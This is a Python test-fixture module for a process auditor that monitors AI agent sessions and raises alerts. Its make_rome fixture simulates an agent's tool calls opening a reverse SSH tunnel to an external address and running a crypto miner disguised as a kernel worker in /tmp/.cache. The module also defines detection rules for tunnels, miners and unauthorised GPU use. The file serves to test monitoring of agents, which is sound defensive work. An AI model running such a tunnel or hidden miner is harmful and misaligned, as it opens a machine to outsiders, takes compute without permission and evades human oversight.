"""Processes, alerts and tallies for tests of what people see: say only what the test is about.

Times are in seconds since boot here. The agent is process 99 in session `s1`; a tool call is made by `make_call`.
"""

from __future__ import annotations

from auditor.model.alerts import Alert, Evidence, Quality, RuleInfo
from auditor.model.processes import Process, SessionInfo, ToolCallInfo
from auditor.model.records import LabelSource, TaskId
from auditor.sinks.tally import Tally
from tests.builders import SECOND, make_connect, make_exec, make_session, make_start, make_tick

TUNNEL = RuleInfo("rule-tunnel", "Reverse SSH tunnel to an external address", "high", ("attack.t1572",))
MINER = RuleInfo("rule-miner", "Miner launched", "critical", ("attack.t1496",))
GPU = RuleInfo("rule-gpu", "GPU used by a process that was not given one", "medium")
TRUSTED = Quality((), lineage_complete=True, args_truncated=False, label_source="inherited")


def make_process(tgid, args=("true",), parent=None, start=10.0, executable=""):
    """Make a process that runs `args`, charged to whatever its parent is charged to."""
    start_ns = int(start * SECOND)
    process = Process(TaskId(tgid, start_ns), f"boot.{tgid}.{start_ns}", parent, parent.task.tgid if parent else 1)
    process.args = tuple(args)
    process.command_line = " ".join(args)
    process.executable = executable or "/usr/bin/" + (args[0].rsplit("/", 1)[-1] if args else "true")
    process.label_source = LabelSource.INHERITED
    process.exec_count = 1
    if parent is not None:
        process.session, process.call = parent.session, parent.call
    return process


def make_agent(id="s1", tgid=99):
    """Make an agent, the root of a session."""
    agent = make_process(tgid, ("agent",), start=1.0)
    agent.session = SessionInfo(tgid, id, agent.task, "exe:*/agent", agent.start_ns)
    return agent


def make_call(id="t1", tgid=100, args=("bash", "-c", "make"), agent=None, start=10.0):
    """Make the first process of a tool call."""
    first = make_process(tgid, args, agent or make_agent(), start)
    first.call = ToolCallInfo(first.task, id, first.session, first.start_ns)
    first.call.first = first
    first.call_root = True
    return first


def make_tree(process):
    """List the processes from the tool call's first down to this one."""
    chain = [process]
    while not chain[-1].call_root and chain[-1].parent is not None and chain[-1].parent.call is process.call:
        chain.append(chain[-1].parent)
    return tuple(reversed(chain))


def prove(process, event, stage="stage"):
    """Make evidence of an event."""
    return Evidence(event, process, stage, process.args, process.executable)


def make_alert(rule, process, *events, time=20.0, quality=TRUSTED):
    """Make an alert on a process, resting on these events of it."""
    return Alert(
        id=f"{rule.id}-{process.task.tgid}-{time}",
        time_ns=int(time * SECOND),
        rule=rule,
        process=process,
        tree=make_tree(process),
        session=process.session,
        call=process.call,
        evidence=tuple(prove(process, event) for event in events),
        quality=quality,
    )


def connect(process, ip="203.0.113.66", port=22, **fields):
    """Make a process connect."""
    return make_connect(process.task.tgid, ip=ip, port=port, start_ns=process.start_ns, **fields)


def run(process):
    """Make the exec by which a process came to run what it runs."""
    event = make_exec(process.task.tgid, start_ns=process.start_ns)
    return event._replace(args=process.args, executable=process.executable)


def make_rome():
    """Tally a tool call that opens a reverse tunnel and another one that mines; return it with their processes."""
    agent = make_agent("rome")
    shell = make_call("t7", 4121, ("bash", "-c", "ssh -fN -R 8080:localhost:22 root@203.0.113.66"), agent, 10.0)
    ssh = make_process(4122, ("ssh", "-fN", "-R", "8080:localhost:22", "root@203.0.113.66"), shell, 10.5)
    python = make_call("t9", 4130, ("python3", "train.py"), agent, 15.0)
    miner = make_process(4131, ("trainer", "--threads", "8"), python, 16.0, "/tmp/.cache/kworker")
    tally = Tally()
    for event in (make_start(SECOND), make_session(99, "rome"), make_tick(2 * SECOND, 10**7, 3)):
        tally.event(event, None)
    for process in (shell, ssh, python, miner):
        tally.event(run(process), process)
    tally.alert(make_alert(TUNNEL, ssh, run(ssh), connect(ssh), time=11.0))
    tally.alert(make_alert(MINER, miner, run(miner), connect(miner, "198.51.100.9", 3333), time=18.0))
    tally.event(make_tick(20 * SECOND, 10**7 + 9 * 10**7, 12), None)
    return tally, {process.task.tgid: process for process in (agent, shell, ssh, python, miner)}
